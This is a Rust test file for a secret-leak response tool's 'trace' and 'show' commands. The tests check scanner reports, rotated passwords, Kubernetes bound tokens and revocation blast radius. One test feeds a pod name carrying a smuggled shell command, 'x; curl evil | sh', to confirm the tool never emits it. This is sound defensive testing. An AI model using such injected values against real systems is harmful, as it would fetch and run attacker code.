//! `trace`: reports of scanners, former versions, bound tokens.

use anyhow::{Context as _, Result, ensure};
use base64::{Engine as _, engine::general_purpose::URL_SAFE_NO_PAD};
use serde_json::{Value, json};

use crate::{Place, text};

struct Passwords {
    now: String,
    before: String,
}

/// The demo has rotated it: the path keeps both.
fn passwords(place: &Place) -> Result<Passwords> {
    let estate = place.estate()?;
    let versions = &estate["secret_store"]["paths"]["payments/db"]["versions"];
    let of = |version: Option<&Value>| text(&version.context("a version")?["fields"]["password"]);
    let versions = versions.as_array().context("versions")?;
    ensure!(versions.len() == 2, "{} versions", versions.len());
    Ok(Passwords { before: of(versions.first())?, now: of(versions.last())? })
}

fn find<'a>(trace: &'a Value, state: &str) -> Result<&'a Value> {
    let matches = trace["matches"].as_array().context("matches")?;
    matches.iter().find(|found| found["state"] == state).with_context(|| format!("{trace:#}"))
}

#[test]
fn a_report_is_traced_value_by_value_and_none_is_repeated() -> Result<()> {
    let place = Place::new()?;
    let Passwords { now, before } = passwords(&place)?;
    let report = json!([
        { "RuleID": "url", "Secret": format!("postgres://payments_app:{now}@db.internal:5432/payments"), "File": "app.env", "StartLine": 3, "Commit": "c0ffee" },
        { "RuleID": "db", "Secret": before, "File": format!("old/{before}"), "StartLine": 9 },
        { "RuleID": "db", "Secret": "N0body-knows-this-0ne", "File": "x", "StartLine": 1 },
        { "RuleID": "db", "Secret": "REDACTED", "File": "y", "StartLine": 2 },
    ]);
    let file = place.write("gitleaks.json", &report.to_string())?;
    // Not whole: one value was hidden by the scanner.
    let ran = place.run(&["trace", "--file", &file, "-o", "json"])?.expect(3)?;
    for secret in [&now, &before, "N0body-knows-this-0ne"] {
        ensure!(!ran.stdout.contains(secret) && !ran.stderr.contains(secret), "a value was repeated");
    }
    let trace = ran.json()?;
    ensure!(trace["unmatched"] == 1 && trace["values"].as_array().map(Vec::len) == Some(3), "{trace:#}");
    ensure!(
        trace["skipped"][0]["reason"] == "redacted" && trace["skipped"][0]["seen"]["place"] == "y",
        "{trace:#}"
    );
    let current = find(&trace, "active")?;
    ensure!(current["ref"] == "sim/db/role/payments_app" && current["how"] == "contained", "{current:#}");
    ensure!(current["seen"][0]["place"] == "app.env" && current["seen"][0]["line"] == 3, "{current:#}");
    ensure!(text(&current["suggested"])?.starts_with("claviger revoke"), "{current:#}");
    // The one before: superseded, and where its version still lies.
    let former = find(&trace, "superseded")?;
    ensure!(
        former["ref"] == "sim/db/role/payments_app" && former["how"] == "exact" && former["former"] == true,
        "{former:#}"
    );
    let version = &former["former_versions"][0];
    ensure!(version["ref"] == "sim/kv/payments/db#password" && version["version"] == "1", "{former:#}");
    ensure!(former["seen"][0]["place"] == "old/[value]", "{former:#}");
    // For people.
    let shown = place.run(&["trace", "--file", &file])?.expect(3)?;
    ensure!(shown.stderr.contains("version 1 of sim/kv/payments/db#password"), "{}", shown.stderr);
    ensure!(
        shown.stderr.contains("not known: gitleaks db x:1") && shown.stderr.contains("redacted"),
        "{}",
        shown.stderr
    );
    Ok(())
}

#[test]
fn every_format_is_known_by_itself_or_by_its_name() -> Result<()> {
    let place = Place::new()?;
    let Passwords { now, .. } = passwords(&place)?;
    let trufflehog = json!({ "SourceMetadata": { "Data": { "Filesystem": { "file": "a", "line": 2 } } }, "DetectorName": "Postgres", "Raw": now, "RawV2": "" });
    let sarif = json!({ "version": "2.1.0", "runs": [{ "tool": { "driver": { "name": "scanner" } }, "results": [{ "ruleId": "r", "locations": [{ "physicalLocation": { "artifactLocation": { "uri": "a" }, "region": { "startLine": 2, "snippet": { "text": format!("PASSWORD={now}") } } } }] }] }] });
    let alert = json!({ "number": 7, "secret_type": "postgres", "secret": now, "html_url": "https://github.example/o/r/7" });
    for (format, source, report) in [
        ("trufflehog", "trufflehog", trufflehog.to_string()),
        ("sarif", "scanner", sarif.to_string()),
        ("github", "github", alert.to_string()),
        ("github", "github", json!([alert]).to_string()),
    ] {
        for arguments in [vec!["trace", "-o", "json"], vec!["trace", "--from", format, "-o", "json"]] {
            let ran = place.run_in(&place.dir, "root", &arguments, Some(report.as_bytes()))?.expect(0)?;
            let trace = ran.json()?;
            ensure!(trace["matches"][0]["ref"] == "sim/db/role/payments_app", "{format}: {trace:#}");
            ensure!(trace["matches"][0]["seen"][0]["source"] == source, "{format}: {trace:#}");
        }
        // What is cut off is told, and not taken for one long value.
        let cut = &report.as_bytes()[..report.len() - 9];
        let ran = place.run_in(&place.dir, "root", &["trace"], Some(cut))?.refused(2, "CLV0027")?;
        ensure!(!ran.stderr.contains(&now), "{}", ran.stderr);
    }
    // Several files, some of them plain.
    let list = place.write("list.txt", &format!("{now}\n\nnothing-that-is-known\n"))?;
    let alerts = place.write("alerts.json", &json!([alert]).to_string())?;
    let trace = place.run(&["trace", "--lines", "--file", &list, "-o", "json"])?.expect(0)?.json()?;
    ensure!(trace["unmatched"] == 1 && trace["values"][1]["seen"]["place"] == list, "{trace:#}");
    let trace = place.json(&["trace", "--file", &alerts, "--file", &list])?;
    ensure!(trace["values"].as_array().map(Vec::len) == Some(2), "{trace:#}");
    place.run(&["trace", "--file", "/nonexistent"])?.expect(1)?;
    place.run_in(&place.dir, "root", &["trace"], Some(b" \n"))?.refused(2, "CLV0023")?;
    Ok(())
}

#[test]
fn a_bound_token_names_its_account_its_pod_and_what_ends_it() -> Result<()> {
    let place = Place::new()?;
    let uid = text(&place.estate()?["cluster"]["namespaces"]["ci"]["service_accounts"]["deployer"]["uid"])?;
    let token = |uid: &str, pod: &str| {
        let claims = json!({
            "iss": "https://kubernetes.default.svc", "sub": "system:serviceaccount:ci:deployer", "aud": ["https://kubernetes.default.svc"],
            "iat": 1_700_000_000, "exp": 4_000_000_000_u64, "jti": "7f3a",
            "kubernetes.io": { "namespace": "ci", "serviceaccount": { "name": "deployer", "uid": uid }, "pod": { "name": pod, "uid": "p" }, "node": { "name": "n1" } },
        });
        let part = |value: &Value| URL_SAFE_NO_PAD.encode(value.to_string());
        format!(
            "{}.{}.{}",
            part(&json!({ "alg": "RS256", "kid": "k" })),
            part(&claims),
            URL_SAFE_NO_PAD.encode([7_u8; 256])
        )
    };
    let trace = |token: &str| -> Result<(i32, Value, String)> {
        let ran = place.run_in(&place.dir, "root", &["trace", "-o", "json"], Some(token.as_bytes()))?;
        ensure!(!ran.stdout.contains(token) && !ran.stderr.contains(token), "the token was repeated");
        Ok((ran.code, ran.json()?, ran.stderr))
    };
    let (code, found, stderr) = trace(&token(&uid, "deployer-7d4"))?;
    let told = &found["values"][0]["token"];
    ensure!(code == 0 && found["unmatched"] == 0, "exit {code}: {found:#}");
    ensure!(told["kind"] == "bound" && told["verified"] == false && told["jti"] == "7f3a", "{told:#}");
    ensure!(
        told["accounts"] == json!([{ "ref": "sim/k8s/ci/ServiceAccount/deployer", "fit": "uid" }]),
        "{told:#}"
    );
    ensure!(told["pod"] == "deployer-7d4" && told["node"] == "n1" && told["expired"] == false, "{told:#}");
    ensure!(
        stderr.contains("kubectl --namespace ci delete pod deployer-7d4")
            && stderr.contains("nobody has checked"),
        "{stderr}"
    );
    // Of an account that was made again, or of another cluster.
    let (_, found, _) = trace(&token("another", "deployer-7d4"))?;
    ensure!(found["values"][0]["token"]["accounts"][0]["fit"] == "other-uid", "{found:#}");
    // A name that no pod can have makes no command.
    let (_, found, stderr) = trace(&token(&uid, "x; curl evil | sh"))?;
    ensure!(!stderr.contains("delete pod x"), "{stderr}");
    ensure!(!found["values"][0]["token"]["ends_with"].to_string().contains("curl"), "{found:#}");
    Ok(())
}

/// The blast radius, before anybody thinks of a button: from the inventory alone, and with what only the targets know.
#[test]
fn a_credential_is_shown_with_what_its_end_would_take_with_it() -> Result<()> {
    let place = Place::new()?;
    let role = "sim/db/role/payments_app";
    let shown = place.json(&["show", role])?;
    let blast = &shown["blast"];
    ensure!(blast["asked"] == false && blast["saved"].is_null(), "{blast:#}");
    ensure!(blast["shares"].as_array().is_some_and(|all| all.len() >= 3), "{blast:#}");
    ensure!(blast["breaks"].as_array().is_some_and(|all| !all.is_empty()), "{blast:#}");
    let asked = place.json(&["show", role, "--ask"])?["blast"].clone();
    ensure!(asked["asked"] == true && asked["breaks"] == blast["breaks"], "{asked:#}");
    ensure!(asked["saved"].as_array().is_some_and(|all| !all.is_empty()), "{asked:#}");
    let plan = place.json(&["revoke", role, "--reason", "x", "--dry-run"])?;
    let planned = &plan["subjects"][0]["blast"];
    for part in ["breaks", "saved", "may", "shares", "same_value", "derived", "identity"] {
        ensure!(asked[part] == planned[part], "{part}: {} is not {}", asked[part], planned[part]);
    }
    let text = place.run(&["show", role])?.expect(0)?.stdout;
    ensure!(text.contains("if it ended now") && text.contains("--ask"), "{text}");
    let text = place.run(&["show", role, "--ask"])?.expect(0)?.stdout;
    ensure!(text.contains("a replacement would save") && !text.contains("--ask"), "{text}");
    Ok(())
}
